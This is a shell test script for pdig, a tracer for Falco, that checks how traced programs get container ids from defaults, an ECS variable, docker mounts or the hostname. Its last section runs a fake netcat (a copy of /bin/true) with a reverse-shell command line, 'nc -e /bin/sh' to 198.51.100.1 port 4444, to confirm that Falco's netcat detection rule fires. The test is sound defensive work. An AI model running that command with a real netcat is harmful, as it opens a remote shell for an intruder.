#!/bin/sh
# The traced tree is always in a container (pdig/container.c): without
# --container-id or ECS's variable, its id comes from the runtime's mounts
# (/proc/ROOT/mountinfo), a docker-made hostname, or is made up once per
# run; --container-id '' keeps it on the host. A stable Falco rule with a
# `container` condition then fires on a traced program.
#
# usage: container_id.sh PDIG ENGINE [FALCO_RULES_YAML]
set -u
PDIG=$1 ENGINE=$2 FALCO=${3:-}
T=$(mktemp -d) || exit 1
trap 'rm -rf "$T"' EXIT
. "$(dirname "$0")/../lib/probe.sh"
pd_need trace
unset ECS_CONTAINER_METADATA_URI_V4 ECS_CONTAINER_METADATA_URI

fail=0
ok() { echo "ok: $*"; }
bad() { echo "FAIL: $*"; fail=1; }

# ids NAME: the distinct "container.id container.type" of the traced
# program's events (cat), one per line
ids() {
	"$ENGINE" -e "$T/$1.scap" -p '%container.id %container.type' 'proc.name = cat' \
		2>"$T/$1.eerr" | sort -u
}
# run NAME [PDIG OPTIONS]: cat under pdig, recorded in $T/NAME.scap
run() {
	name=$1
	shift
	"$PDIG" -q -w "$T/$name.scap" "$@" -- cat /etc/hostname >/dev/null 2>"$T/$name.err" ||
		bad "$name: pdig failed: $(cat "$T/$name.err")"
}

# ---- the default: never the host, one id for the whole run
run a
run b
ida=$(ids a) idb=$(ids b)
case $ida in
"" | host* | *"
"*) bad "default: want one container id that is not host, got '$ida'" ;;
*" static") ok "default: the traced tree is in container ${ida% *}" ;;
*) bad "default: want type static, got '$ida'" ;;
esac
# where the machine itself gives no id, each run makes its own
if grep -q 'containers/[0-9a-f]\{64\}/' /proc/self/mountinfo ||
	hostname | grep -qx '[0-9a-f]\{12\}'; then
	pd_skip "ids made up per run" "this machine's mounts or hostname give one"
elif [ "$ida" = "$idb" ]; then
	bad "default: two runs made the same id '$ida'"
else
	ok "default: each run makes its own id (${ida% *}, ${idb% *})"
fi

# ---- --container-id '' : the host; --container-id ID, ECS's variable: theirs
run none --container-id ''
[ "$(ids none)" = "host host" ] && ok "--container-id '': the host" ||
	bad "--container-id '': want host, got '$(ids none)'"
ECS_CONTAINER_METADATA_URI_V4=http://169.254.170.2/v4/abc-1234 run ecs
[ "$(ids ecs)" = "abc-1234 static" ] && ok "ECS's variable gives the id" ||
	bad "ECS: want abc-1234, got '$(ids ecs)'"

# ---- the runtime's mounts, the hostname (private namespaces, as root)
HEX=0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef
if pd_have root && pd_have mountns; then
	mkdir -p "$T/lib/docker/containers/$HEX"
	echo myhost >"$T/lib/docker/containers/$HEX/hostname"
	unshare -m sh -c 'mount --bind "$1" /etc/hostname && shift && exec "$@"' sh \
		"$T/lib/docker/containers/$HEX/hostname" \
		"$PDIG" -q -w "$T/mnt.scap" -- cat /etc/hostname >/dev/null 2>"$T/mnt.err" ||
		bad "mounts: pdig failed: $(cat "$T/mnt.err")"
	[ "$(ids mnt)" = "0123456789ab static" ] && ok "the runtime's mounts give the id" ||
		bad "mounts: want 0123456789ab, got '$(ids mnt)'"
else
	pd_skip "the id from the runtime's mounts"
fi
if pd_have root && unshare -u true 2>/dev/null && ! grep -q 'containers/[0-9a-f]\{64\}/' /proc/self/mountinfo; then
	unshare -u sh -c 'hostname 00aa11bb22cc && exec "$@"' sh \
		"$PDIG" -q -w "$T/host.scap" -- cat /etc/hostname >/dev/null 2>"$T/host.err" ||
		bad "hostname: pdig failed: $(cat "$T/host.err")"
	[ "$(ids host)" = "00aa11bb22cc static" ] && ok "a docker-made hostname gives the id" ||
		bad "hostname: want 00aa11bb22cc, got '$(ids host)'"
else
	pd_skip "the id from the hostname" "needs root and a UTS namespace, and no id in the mounts"
fi

# ---- a stable Falco rule with a `container` condition fires
if [ -n "$FALCO" ] && [ -f "$FALCO" ]; then
	mkdir "$T/bin" && cp /bin/true "$T/bin/nc"
	"$PDIG" -q -w "$T/nc.scap" -- "$T/bin/nc" -e /bin/sh 198.51.100.1 4444 2>"$T/nc.err" ||
		bad "nc: pdig failed: $(cat "$T/nc.err")"
	n=$("$ENGINE" -r "$FALCO" -e "$T/nc.scap" --json 2>"$T/nc.eerr" |
		grep -c '"rule":"Netcat Remote Code Execution in Container"')
	[ "$n" = 1 ] && ok "Falco's 'Netcat Remote Code Execution in Container' fires" ||
		bad "Falco's netcat rule: want 1 alert, got $n ($(tail -2 "$T/nc.eerr"))"
	"$PDIG" -q -w "$T/nc0.scap" --container-id '' -- "$T/bin/nc" -e /bin/sh 198.51.100.1 4444 2>/dev/null
	n=$("$ENGINE" -r "$FALCO" -e "$T/nc0.scap" --json 2>/dev/null |
		grep -c '"rule":"Netcat Remote Code Execution in Container"')
	[ "$n" = 0 ] && ok "... and not on the host (--container-id '')" ||
		bad "Falco's netcat rule on the host: want 0 alerts, got $n"
else
	pd_skip "Falco's rules" "../shared/falco-rules/falco_rules.yaml is not there"
fi
exit $fail
